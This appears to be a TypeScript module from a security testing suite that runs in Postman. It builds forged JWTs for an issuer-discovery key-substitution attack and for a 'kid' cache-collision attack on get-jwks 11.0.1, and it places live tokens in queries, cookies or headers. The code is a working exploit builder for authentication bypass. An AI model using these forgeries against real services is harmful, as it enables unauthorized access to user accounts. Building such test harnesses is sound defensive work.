/**
 * The request rows' side of the sandbox (security/request-catalogue.ts): the tokens they build, and
 * how a clause's shape changes the request (the token moved out of the identity header, extra
 * headers). Runs in the Postman app and in Newman alike: no Node APIs. Never logs a token.
 */
import type { RequestShape, TokenPlacement } from '../../security/request-catalogue.ts';
import { type AttackContext, attackerUrl } from './attack-builders.ts';
import type { Pm } from './postman.ts';
import { base64url, rsaSign } from './sandbox-crypto.ts';

const WELL_KNOWN_JWKS = '/.well-known/jwks.json';

function part(value: unknown): string {
  return base64url(JSON.stringify(value));
}

/** An RS256 signature by the attacker over `header` and a payload part (base64url) as given. */
function attackerSigned(c: AttackContext, header: unknown, payloadPart: string): string {
  const input = `${part(header)}.${payloadPart}`;
  return `${input}.${rsaSign('RS256', c.attacker.privateJwk, input)}`;
}

/** The attacker server's origin, from the JWKS URL the runner handed over. */
function attackerOrigin(c: AttackContext): string {
  const url = attackerUrl(c.urls.jku);
  return url.endsWith(WELL_KNOWN_JWKS) ? url.slice(0, -WELL_KNOWN_JWKS.length) : url;
}

/** Where the attacker's key set is served for the issuer-discovery token: `<origin>/keys:<T's iss>`. */
function attackerIssuer(c: AttackContext): string {
  const iss = c.payload.iss;
  if (typeof iss !== 'string' || iss === '') throw new Error("the live token's iss is empty");
  return `${attackerOrigin(c)}/keys:${iss}`;
}

/** The tokens request rows build, by RequestShape['built']. */
export const requestBuilders: Readonly<
  Record<NonNullable<RequestShape['built']>, (c: AttackContext) => string>
> = {
  // iss on the attacker's server and ending in the pool's issuer (so in its pool id): a verifier that
  // discovers keys from iss fetches the attacker's set from <iss>/.well-known/jwks.json.
  'issuer-discovery': (c) =>
    attackerSigned(
      c,
      { ...c.header, alg: 'RS256', kid: c.attacker.kid },
      part({ ...c.payload, iss: attackerIssuer(c) }),
    ),
  // get-jwks 11.0.1 caches under `${alg}:${kid}:${domain}/`. With this kid and T's iss that is
  // `RS256:<attacker kid>:<origin>/keys:<T's iss>/`, the entry the token above filled with the attacker's key.
  'colliding-kid': (c) =>
    attackerSigned(
      c,
      { ...c.header, alg: 'RS256', kid: `${c.attacker.kid}:${attackerOrigin(c)}/keys` },
      c.parts[1],
    ),
};

/** Amplify's cookie name for a token: CognitoIdentityServiceProvider.<clientId>.<user>.idToken. */
function amplifyCookie(c: Pick<AttackContext, 'payload'>): string {
  const client = c.payload.aud ?? c.payload.client_id;
  const user = c.payload['cognito:username'] ?? c.payload.username ?? c.payload.sub;
  return `CognitoIdentityServiceProvider.${String(client)}.${String(user)}.idToken`;
}

/** Puts the live token where the placement says (the identity header stays absent). */
export function placeToken(
  pm: Pm,
  placement: TokenPlacement,
  token: string,
  c: Pick<AttackContext, 'payload'>,
): void {
  if (placement.in === 'query') pm.request.url.query.add({ key: placement.name, value: token });
  else if (placement.in === 'amplify-cookie')
    pm.request.headers.upsert({ key: 'Cookie', value: `${amplifyCookie(c)}=${token}` });
  else pm.request.headers.upsert({ key: placement.name, value: token });
}

/** The shape's extra headers (routing metadata, Host), as the generator filled them. */
export function addHeaders(pm: Pm, shape: RequestShape): void {
  for (const [key, value] of Object.entries(shape.headers ?? {})) pm.request.headers.upsert({ key, value });
}
